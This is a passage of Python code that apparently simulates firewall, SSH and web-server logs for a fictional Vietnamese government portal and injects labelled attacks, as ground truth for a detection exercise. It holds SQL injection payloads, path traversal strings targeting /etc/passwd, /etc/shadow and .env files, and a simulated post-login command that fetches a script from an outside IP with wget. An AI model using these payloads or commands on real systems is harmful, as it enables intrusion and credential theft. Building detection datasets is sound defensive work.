        for _ in range(self.count(DB_FLOWS_PER_HOUR * self.scale * (0.3 + weight) / 4)):
            app = self.pick(("srv-app-01", "srv-app-02"))
            self.fw_line(slot + self.rnd() * _SLOT, HOST_IP[app], self.eport(), HOST_IP["srv-db-01"], 5432, 6,
                         "close", 7, self.randint(30, 900), self.randint(20_000, 900_000), self.randint(50_000, 5_000_000))
        if minute % 5 == 0:  # zabbix polls each DMZ host's agent every five minutes
            for step in range(3):
                for name in ("srv-web-01", "srv-app-01", "srv-app-02", "srv-sftp-01"):
                    t = slot + step * 300 + 1 + self.rnd() * 3
                    self.fw_line(t, MONITOR_IP, self.eport(), HOST_IP[name], 10050, 6, "close", 8, 0,
                                 self.randint(300, 400), self.randint(400, 2_000))
        for _ in range(self.count(6 * self.scale * (0.2 + weight) / 4)):  # upstream DNS of the resolver
            up, country = self.pick(UPSTREAM_DNS)
            self.fw_line(slot + self.rnd() * _SLOT, DNS_IP, self.eport(), up, 53, 17, "accept", 6, 0,
                         self.randint(60, 90), self.randint(90, 500), dcountry=country)
        for _ in range(self.count(3 * self.scale * (0.2 + weight) / 4)):  # mail in and out
            t = slot + self.rnd() * _SLOT
            if self.rnd() < 0.5:
                self.fw_line(t, self.vn_ip(), self.eport(), HOST_IP["srv-mail-01"], 25, 6, "close", 9,
                             self.randint(1, 20), self.randint(2_000, 300_000), self.randint(500, 2_000),
                             scountry="Vietnam")
            else:
                dst, country = self.net_ip(WEB_NETS)
                self.fw_line(t, HOST_IP["srv-mail-01"], self.eport(), dst, 25, 6, "close", 6, self.randint(1, 20),
                             self.randint(2_000, 300_000), self.randint(500, 2_000), dcountry=country)

    def nightly(self, slot: float, minute: int, weekday: int) -> None:
        """Backups over ssh at 01:30 and package updates at 06:00, every day."""
        if minute == 90:
            t = slot + 2
            for name, ip in HOSTS:
                if name != "srv-backup-01":
                    t = self.key_session(t, name, "backup", 998, BACKUP_IP, self.randint(120, 900), policy=10)
                    t += 5 + self.rnd() * 30
        if minute == 360:
            for name, ip in HOSTS:
                up, country = self.pick(UPDATE_SERVERS)
                self.fw_line(slot + self.rnd() * _SLOT, ip, self.eport(), up, 80, 6, "close", 6,
                             self.randint(2, 60), self.randint(2_000, 9_000), self.randint(20_000, 30_000_000),
                             dcountry=country)

    def noise(self, slot: float) -> None:
        for _ in range(self.count(NOISE_PER_HOUR / 4)):
            src, country = self.net_ip(NOISE_NETS)
            dst = self.pick((PORTAL_IP, SFTP_IP, "10.10.10.11"))
            self.fw_line(slot + self.rnd() * _SLOT, src, self.eport(), dst, self.pick(NOISE_PORTS), 6, "deny", 0,
                         0, 0, 0, scountry=country)

    # --- auth.log: admins, partners, cron, backups ----------------------------------------

    def admin_sessions(self, slot: float, weight: float) -> None:
        for _ in range(self.count(ADMIN_SESSIONS_PER_HOUR * max(weight, 0.03) / 4)):
            t = slot + self.rnd() * _SLOT
            user, uid, ws, method = self.pick(ADMINS)
            host = self.pick(HOSTS)[0]
            self.interactive_session(t, host, user, uid, ws, method)
        if weight >= 1.0 and self.rnd() < 0.08:  # deployments from the bastion
            t = slot + self.rnd() * _SLOT
            host = self.pick(("srv-app-01", "srv-app-02", "srv-web-01"))
            self.key_session(t, host, "deploy", 1010, BASTION_IP, self.randint(20, 120), policy=5)

    def interactive_session(self, t: float, host: str, user: str, uid: int, src: str, method: str) -> None:
        pid, port = self.new_pid(host), self.eport()
        sshd = f"sshd[{pid}]"
        hour_key = (src, int(t // 3600))
        if method == "password" and self.rnd() < 0.1 and hour_key not in self.typos:
            self.typos.add(hour_key)  # one mistyped password, then the right one
            self.syslog(t, host, sshd, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
                                       f"tty=ssh ruser= rhost={src}  user={user}")
            self.syslog(t + 0.01, host, sshd, f"Failed password for {user} from {src} port {port} ssh2")
            t += 3 + self.rnd() * 10
        self.accepted(t, host, sshd, user, uid, src, port, method)
        session = self.logind_open(t, host, user)
        tt = t + 10
        for _ in range(self.randint(0, 3)):
            tt += 5 + self.rnd() * 240
            self.sudo(tt, host, user, uid, self.pick(ADMIN_COMMANDS))
        end = tt + 30 + self.rnd() * 1500
        self.disconnect(end, host, sshd, user, src, port, session)
        self.fw_line(end + 0.5, src, port, HOST_IP[host], 22, 6, "close", 5, int(end - t) + 1,
                     self.randint(5_000, 90_000), self.randint(10_000, 900_000))

    def key_session(self, t: float, host: str, user: str, uid: int, src: str, length: int, policy: int) -> float:
        """A non-interactive publickey session (backup, deployment); returns its end time."""
        pid, port = self.new_pid(host), self.eport()
        sshd = f"sshd[{pid}]"
        self.accepted(t, host, sshd, user, uid, src, port, "publickey")
        session = self.logind_open(t, host, user)
        end = t + length
        self.disconnect(end, host, sshd, user, src, port, session)
        if _zone(src) != _zone(HOST_IP[host]):
            self.fw_line(end + 0.5, src, port, HOST_IP[host], 22, 6, "close", policy, length,
                         self.randint(50_000, 5_000_000), self.randint(100_000, 900_000_000))
        return end

    def accepted(self, t: float, host: str, sshd: str, user: str, uid: int, src: str, port: int, method: str) -> None:
        suffix = f": ED25519 SHA256:{self.key_fp[user]}" if method == "publickey" else ""
        self.syslog(t, host, sshd, f"Accepted {method} for {user} from {src} port {port} ssh2{suffix}")
        self.syslog(t + 0.01, host, sshd, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)")

    def logind_open(self, t: float, host: str, user: str) -> int:
        self.logind_session[host] += 1
        session = self.logind_session[host]
        self.syslog(t + 0.02, host, f"systemd-logind[{self.logind_pid[host]}]", f"New session {session} of user {user}.")
        return session

    def disconnect(self, t: float, host: str, sshd: str, user: str, src: str, port: int, session: int) -> None:
        self.syslog(t, host, sshd, f"Received disconnect from {src} port {port}:11: disconnected by user")
        self.syslog(t, host, sshd, f"Disconnected from user {user} {src} port {port}")
        self.syslog(t + 0.01, host, sshd, f"pam_unix(sshd:session): session closed for user {user}")
        logind = f"systemd-logind[{self.logind_pid[host]}]"
        self.syslog(t + 0.02, host, logind, f"Session {session} logged out. Waiting for processes to exit.")
        self.syslog(t + 0.03, host, logind, f"Removed session {session}.")

    def sudo(self, t: float, host: str, user: str, uid: int, command: str) -> None:
        self.syslog(t, host, "sudo", f"{user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}")
        self.syslog(t, host, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})")
        self.syslog(t + 0.3 + self.rnd() * 4, host, "sudo", "pam_unix(sudo:session): session closed for user root")

    def partner_uploads(self, slot: float, weight: float) -> None:
        for user, uid, src in PARTNERS:
            if self.rnd() < 0.06 * weight:
                t = slot + self.rnd() * _SLOT
                pid, port = self.new_pid("srv-sftp-01"), self.eport()
                sshd = f"sshd[{pid}]"
                self.accepted(t, "srv-sftp-01", sshd, user, uid, src, port, "password")
                self.syslog(t + 0.05, "srv-sftp-01", sshd, f"subsystem request for sftp by user {user}")
                end = t + 5 + self.rnd() * 240
                self.syslog(end, "srv-sftp-01", sshd, f"Received disconnect from {src} port {port}:11: disconnected by user")
                self.syslog(end, "srv-sftp-01", sshd, f"Disconnected from user {user} {src} port {port}")
                self.syslog(end + 0.01, "srv-sftp-01", sshd, f"pam_unix(sshd:session): session closed for user {user}")
                self.fw_line(end + 0.5, src, port, SFTP_IP, 22, 6, "close", 11, int(end - t) + 1,
                             self.randint(50_000, 20_000_000), self.randint(5_000, 50_000))

    def cron(self, slot: float, minute: int) -> None:
        """sysstat every 10 minutes and cron.hourly at :17 on every host; pg jobs on the database."""
        for m in range(minute, minute + 15):
            for name, _ in HOSTS:
                jobs = []
                if m % 10 == 0:
                    jobs.append(("root", 0))
                if m % 60 == 17:
                    jobs.append(("root", 0))
                if name == "srv-db-01" and m % 15 == 5:
                    jobs.append(("postgres", 114))
                for user, uid in jobs:
                    t = slot + (m - minute) * 60 + self.rnd() * 0.9
                    cron = f"CRON[{self.new_pid(name)}]"
                    self.syslog(t, name, cron, f"pam_unix(cron:session): session opened for user {user}(uid={uid}) by (uid=0)")
                    self.syslog(t + 0.05 + self.rnd() * 2, name, cron, f"pam_unix(cron:session): session closed for user {user}")


def _journey_lookup(sim: _Simulation) -> list[tuple[str, str, int, int, int]]:
    ma = sim.ma_ho_so(sim.start)
    return [("GET", "/", 200, 38_000, 42_000), ("GET", "/tra-cuu/ho-so", 200, 21_000, 23_000),
            ("GET", f"/tra-cuu/ho-so?ma={ma}", 200, 24_000, 30_000),
            ("GET", f"/api/ho-so/trang-thai?ma={ma}", 200, 600, 2_400)]


def _journey_submit(sim: _Simulation) -> list[tuple[str, str, int, int, int]]:
    lv, tt = sim.pick(LINH_VUC), sim.ma_thu_tuc()
    steps = [("GET", "/", 200, 38_000, 42_000), ("GET", "/dang-nhap", 302, 0, 1),
             ("GET", "/dang-nhap/vneid/callback?state=dvc", 302, 0, 1),
             ("GET", "/tai-khoan/ho-so-cua-toi", 200, 26_000, 34_000),
             ("GET", f"/dich-vu-cong/danh-sach?linh-vuc={lv}", 200, 30_000, 52_000),
             ("GET", f"/dich-vu-cong/chi-tiet?ma-thu-tuc={tt}", 200, 28_000, 45_000),
             ("GET", f"/dich-vu-cong/nop-ho-so?ma-thu-tuc={tt}", 200, 35_000, 48_000)]
    steps += [("POST", "/api/tep-dinh-kem/tai-len", 200, 90, 140) for _ in range(sim.randint(1, 4))]
    steps.append(("POST", "/dich-vu-cong/nop-ho-so", 302, 0, 1))
    steps.append(("GET", f"/dich-vu-cong/nop-ho-so/thanh-cong?ma-thu-tuc={tt}", 200, 12_000, 14_000))
    return steps


def _journey_search(sim: _Simulation) -> list[tuple[str, str, int, int, int]]:
    kw = sim.pick(KEYWORDS)
    steps = [("GET", "/", 200, 38_000, 42_000),
             ("GET", f"/tra-cuu/thu-tuc-hanh-chinh?tu-khoa={kw}", 200, 20_000, 60_000),
             ("GET", f"/api/thu-tuc/goi-y?tu-khoa={kw}", 200, 300, 4_000),
             ("GET", f"/dich-vu-cong/chi-tiet?ma-thu-tuc={sim.ma_thu_tuc()}", 200, 28_000, 45_000)]
    if sim.rnd() < 0.3:
        steps.append(("GET", f"/tra-cuu/thu-tuc-hanh-chinh?tu-khoa={kw}&trang=2", 200, 20_000, 60_000))
    return steps


def _journey_news(sim: _Simulation) -> list[tuple[str, str, int, int, int]]:
    steps = [("GET", "/", 200, 38_000, 42_000), ("GET", "/tin-tuc", 200, 30_000, 36_000),
             ("GET", f"/tin-tuc/{sim.pick(NEWS)}", 200, 18_000, 40_000)]
    if sim.rnd() < 0.05:  # an old link shared on social media
        steps.append(("GET", "/tin-tuc/thong-bao-nghi-le-quoc-khanh-2-9", 404, 3_100, 3_200))
    return steps


def _journey_pay(sim: _Simulation) -> list[tuple[str, str, int, int, int]]:
    ma = sim.ma_ho_so(sim.start)
    return [("GET", f"/thanh-toan/phi-le-phi?ma-ho-so={ma}", 200, 22_000, 26_000),
            ("POST", "/thanh-toan/xac-nhan", 302, 0, 1),
            ("GET", f"/thanh-toan/ket-qua?ma-ho-so={ma}&trang-thai=thanh-cong", 200, 15_000, 17_000),
            ("GET", f"/danh-gia-hai-long?ma-ho-so={ma}", 200, 19_000, 21_000),
            ("POST", "/danh-gia-hai-long", 200, 120, 180)]


_JOURNEYS: list[Callable[[_Simulation], list[tuple[str, str, int, int, int]]]] = (
    [_journey_lookup] * 35 + [_journey_submit] * 15 + [_journey_search] * 25 + [_journey_news] * 15 + [_journey_pay] * 10
)


# --------------------------------------------------------------------------------------------
# Attacks
# --------------------------------------------------------------------------------------------

SSH_USERNAMES = ["root", "admin", "test", "oracle", "ubuntu", "user", "postgres", "ftpuser", "guest", "git",
                 "support", "administrator", "pi", "deploy", "sftp", "quantri", "backup", "mysql", "www", "test1"]
SFTP_VALID_USERS = {"root", "quantri", "backup", "test", "ftpuser"}

SQLMAP_UAS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap/1.8.4#stable (https://sqlmap.org)",
              "sqlmap/1.8.11#stable (https://sqlmap.org)"]
# the vulnerable-looking parameter each scan targets: path with its query prefix, and a normal value
SQLI_TARGETS = [("/tra-cuu/ho-so?ma=", "000.00.12.H34-261101-0042"),
                ("/dich-vu-cong/chi-tiet?ma-thu-tuc=", "1.001234"),
                ("/tin-tuc/chi-tiet?id=", "1287"),
                ("/api/ho-so/trang-thai?ma=", "000.00.20.H11-261103-0007")]
SQLI_PAYLOADS = [
    "{v}' UNION ALL SELECT NULL,NULL,NULL-- -",
    "{v}' UNION ALL SELECT NULL,CONCAT(0x7176627a71,0x4f6b,0x7178787671),NULL-- -",
    "{v}' union select 1,2,group_concat(table_name) from information_schema.tables-- -",
    "{v}' union select 1,@@version,3-- -",
    "{v}' OR 1=1-- -",
    "{v}' or 1=1#",
    "{v}') OR 1=1-- -",
    "{v}' AND SLEEP(5)-- -",
    "{v}' AND (SELECT 4021 FROM (SELECT(SLEEP(5)))aXkQ)-- -",
    "{v}';WAITFOR DELAY '0:0:5'--",
    "{v}' AND EXTRACTVALUE(4466,CONCAT(0x5c,0x7176627a71,(SELECT (ELT(4466=4466,1))),0x7178787671))-- -",
    "{v}' AND 1=2 UNION SELECT table_schema,table_name,3 FROM information_schema.tables-- -",
    "{v}' AND BENCHMARK(5000000,MD5(0x4a4b))-- -",
    "-1' UNION SELECT username,password,3 FROM nguoi_dung-- -",
]
TRAVERSAL_UAS = ["curl/8.4.0", "python-requests/2.31.0",
                 "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000412)"]
TRAVERSAL_PATHS = [
    "/tai-lieu/tai-ve?file=../../../../etc/passwd",
    "/tai-lieu/tai-ve?file=../../../../../../etc/shadow",
    "/tai-lieu/tai-ve?file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/tai-lieu/tai-ve?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/tai-lieu/tai-ve?file=....//....//....//etc/passwd",
    "/tai-lieu/tai-ve?file=..%5c..%5c..%5cwindows%5cwin.ini",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/%252e%252e/%252e%252e/%252e%252e/etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/tai-lieu/tai-ve?file=../../../../proc/self/environ",
    "/tai-lieu/tai-ve?file=../../../../var/www/dichvucong/.env",
    "/dich-vu-cong/../../../../etc/hosts",
]
SCAN_TOP_PORTS = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 1723, 2049,
                  3306, 3389, 5432, 5900, 6379, 8000, 8080, 8443, 8888, 9200, 27017]
SCAN_TARGETS = [PORTAL_IP, "10.10.10.11", "10.10.10.12", SFTP_IP]
OPEN_PORTS = {(PORTAL_IP, 443): 1, (PORTAL_IP, 80): 1, (SFTP_IP, 22): 2}


class _Attacks:
    """Plans the attacks over the simulated days, writes their lines into the sinks, returns the ground truth."""

    def __init__(self, sim: _Simulation) -> None:
        self.sim = sim
        self.taken: list[float] = []

    def inject(self) -> list[dict[str, Any]]:
        """About one attack of each kind per three days (at least one each); the first brute force succeeds."""
        sim = self.sim
        truth: list[dict[str, Any]] = []
        for make in (self.bruteforce, self.sqli, self.port_scan, self.traversal):
            n = max(1, round(sim.days / 3 * (0.7 + 0.6 * sim.rnd())))
            for i in range(n):
                if make == self.bruteforce:
                    truth += self.bruteforce(self.slot(), succeed=(i == 0 or sim.rnd() < 0.5))
                else:
                    truth += make(self.slot())
        truth.sort(key=lambda a: (a["start"], a["kind"]))
        return truth

    def slot(self) -> float:
        """A start time at least 30 minutes away from every other attack, inside the simulated span."""
        sim = self.sim
        lo, hi = sim.start + 3600, sim.end - 2 * 3600
        for _ in range(1000):
            t = lo + sim.rnd() * (hi - lo)
            if all(abs(t - s) > 1800 for s in self.taken):
                self.taken.append(t)
                return t
        raise SocError("simulate: too many attacks for the simulated span")

    @staticmethod
    def record(kind: str, ip: str, times: list[float], file: str, count: int, target: dict[str, Any]) -> dict[str, Any]:
        return {
            "kind": kind,
            "entity": {"source.ip": ip},
            "start": format_ts(datetime.fromtimestamp(int(min(times)), timezone.utc)),
            "end": format_ts(datetime.fromtimestamp(int(max(times)), timezone.utc)),
            "count": count,
            "file": file,
            "target": target,
        }

    # --- ssh brute force, then maybe a login ----------------------------------------------

    def bruteforce(self, t: float, succeed: bool) -> list[dict[str, Any]]:
        sim = self.sim
        ip, country = sim.attacker_ip()
        host = "srv-sftp-01"
        attempts = sim.randint(60, 300)
        weak_user, weak_uid = sim.pick(WEAK_ACCOUNTS)
        users = [sim.pick(SSH_USERNAMES) for _ in range(8)] + [weak_user]
        failed: list[float] = []
        times: list[float] = []
        while len(failed) < attempts:
            # the last connection tries the account whose password the attacker then finds
            user = sim.pick(users) if attempts - len(failed) > 6 else weak_user
            tries = min(attempts - len(failed), sim.pick((1, 1, 1, 2, 3, 6)))
            t = self.ssh_connection(t, ip, country, host, user, tries, failed, times)
            t += 0.5 + sim.rnd() * 3
        truth = [self.record("ssh_bruteforce", ip, times, AUTH_LOG, len(failed),
                             {"host.name": host, "destination.ip": SFTP_IP, "destination.port": 22})]
        if succeed:
            t += 30 + sim.rnd() * 450
            port, pid = sim.eport(), sim.new_pid(host)
            sshd = f"sshd[{pid}]"
            sim.accepted(t, host, sshd, weak_user, weak_uid, ip, port, "password")
            session = sim.logind_open(t, host, weak_user)
            for i, cmd in enumerate(("/usr/bin/id", "/usr/bin/cat /etc/shadow",
                                     "/usr/bin/wget -q http://45.95.147.236/x.sh -O /tmp/.x.sh")):
                sim.sudo(t + 20 + i * (8 + sim.rnd() * 30), host, weak_user, weak_uid, cmd)
            end = t + 240 + sim.rnd() * 600
            sim.disconnect(end, host, sshd, weak_user, ip, port, session)
            sim.fw_line(end + 0.5, ip, port, SFTP_IP, 22, 6, "close", 2, int(end - t) + 1,
                        sim.randint(20_000, 90_000), sim.randint(50_000, 900_000), scountry=country)
            truth.append(self.record("ssh_login_after_bruteforce", ip, [t], AUTH_LOG, 1,
                                     {"host.name": host, "user.name": weak_user, "destination.ip": SFTP_IP}))
        return truth

    def ssh_connection(self, t: float, ip: str, country: str, host: str, user: str, tries: int,
                       failed: list[float], times: list[float]) -> float:
        """One attacker connection with `tries` wrong passwords; returns when it closed."""
        sim = self.sim
        port, pid = sim.eport(), sim.new_pid(host)
        sshd = f"sshd[{pid}]"
        valid = user in SFTP_VALID_USERS
        who = user if valid else f"invalid user {user}"

        def log(at: float, msg: str) -> None:
            sim.syslog(at, host, sshd, msg)
            times.append(at)

        if not valid:
            log(t, f"Invalid user {user} from {ip} port {port}")
            log(t + 0.2, "pam_unix(sshd:auth): check pass; user unknown")
            log(t + 0.2, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}")
        else:
            log(t + 0.2, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                         f"rhost={ip}  user={user}")
        t += 2 + sim.rnd()
        for i in range(tries):
            log(t, f"Failed password for {who} from {ip} port {port} ssh2")
            failed.append(t)
            t += 2 + sim.rnd() * 1.5
        if tries >= 6:
            log(t, f"error: maximum authentication attempts exceeded for {who} from {ip} port {port} ssh2 [preauth]")
            log(t, f"Disconnecting {'authenticating' if valid else 'invalid'} user {user} {ip} port {port}: "
                   "Too many authentication failures [preauth]")
        else:
            log(t, f"Connection closed by {'authenticating' if valid else 'invalid'} user {user} {ip} port {port} [preauth]")
        if tries > 1:
            more = "failures" if tries > 2 else "failure"
            log(t, f"PAM {tries - 1} more authentication {more}; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}"
                   + (f"  user={user}" if valid else ""))
        sim.fw_line(t + 0.1, ip, port, SFTP_IP, 22, 6, "close", 2, int(tries * 2.5) + 2,
                    sim.randint(2_500, 4_000), sim.randint(2_500, 4_500), scountry=country)
        return t

    # --- the portal: SQL injection and path traversal -------------------------------------

    def sqli(self, t: float) -> list[dict[str, Any]]:
        sim = self.sim
        ip, country = sim.attacker_ip()
        ua = sim.pick(SQLMAP_UAS)
        path, value = sim.pick(SQLI_TARGETS)
        n = sim.randint(30, 150)
        times: list[float] = []
        for i in range(n):
            payload = sim.pick(SQLI_PAYLOADS).format(v=value)
            r = sim.rnd()
            if r < 0.5:  # sqlmap's own encoding
                encoded = quote(payload, safe="")
            elif r < 0.8:  # spaces as '+', punctuation left as typed
                encoded = quote(payload.replace(" ", "+"), safe="'()=,-+*@;:")
            else:
                encoded = quote(payload, safe="'()=,-*@;:")
            status = sim.pick((200, 200, 200, 500, 500, 400, 302))
            size = {200: sim.randint(18_000, 30_000), 500: sim.randint(600, 900), 400: 166, 302: 0}[status]
            sim.nginx(t, ip, "GET", path + encoded, status, size, "-", ua)
            times.append(t)
            t += 0.2 + sim.rnd() * (6 if "SLEEP" in payload.upper() else 2)
            if i % 25 == 24 or i == n - 1:
                sim.fw_line(t + 1, ip, sim.eport(), PORTAL_IP, 443, 6, "close", 1, 30, sim.randint(20_000, 60_000),
                            sim.randint(100_000, 900_000), scountry=country)
        return [self.record("sqli_scan", ip, times, NGINX_LOG, n,
                            {"url.path": path.split("?")[0], "destination.ip": PORTAL_IP, "host.name": "srv-web-01"})]

    def traversal(self, t: float) -> list[dict[str, Any]]:
        sim = self.sim
        ip, country = sim.attacker_ip()
        ua = sim.pick(TRAVERSAL_UAS)
        n = sim.randint(15, 60)
        times: list[float] = []
        for _ in range(n):
            status = sim.pick((400, 404, 404, 403, 200))
            size = {400: 166, 404: 3_150, 403: 162, 200: 4_210}[status]
            sim.nginx(t, ip, "GET", sim.pick(TRAVERSAL_PATHS), status, size, "-", ua)
            times.append(t)
            t += 0.3 + sim.rnd() * 4
        sim.fw_line(t + 1, ip, sim.eport(), PORTAL_IP, 443, 6, "close", 1, int(times[-1] - times[0]) + 2,
                    sim.randint(5_000, 30_000), sim.randint(10_000, 200_000), scountry=country)
        return [self.record("path_traversal", ip, times, NGINX_LOG, n,
                            {"destination.ip": PORTAL_IP, "host.name": "srv-web-01"})]

    # --- the firewall: port scan ------------------------------------------------------------

    def port_scan(self, t: float) -> list[dict[str, Any]]:
        sim = self.sim
        ip, country = sim.attacker_ip()
        targets = SCAN_TARGETS[:]
        sim.rng.shuffle(targets)
        targets = targets[: sim.pick((1, 1, 2, 3))]
        nports = sim.randint(100, 500)
        extra = [p for p in sim.rng.sample(range(1, 65536), nports + 40) if p not in SCAN_TOP_PORTS]
        ports = (SCAN_TOP_PORTS + extra)[:nports]
        sport = sim.eport()  # nmap keeps one source port for its SYN probes
        probes = [(dst, port) for dst in targets for port in ports]
        sim.rng.shuffle(probes)
        span = 60 + sim.rnd() * 120
        times: list[float] = []
        for dst, port in probes:
            at = t + sim.rnd() * span
            policy = OPEN_PORTS.get((dst, port))
            if policy:
                sim.fw_line(at, ip, sport, dst, port, 6, "close", policy, 0, 44, 40, scountry=country)
            else:
                sim.fw_line(at, ip, sport, dst, port, 6, "deny", 0, 0, 0, 0, scountry=country)
            times.append(at)
        return [self.record("port_scan", ip, times, FORTIGATE_LOG, len(probes),
                            {"destination.ip": sorted(targets), "distinct_ports": len(set(ports))})]
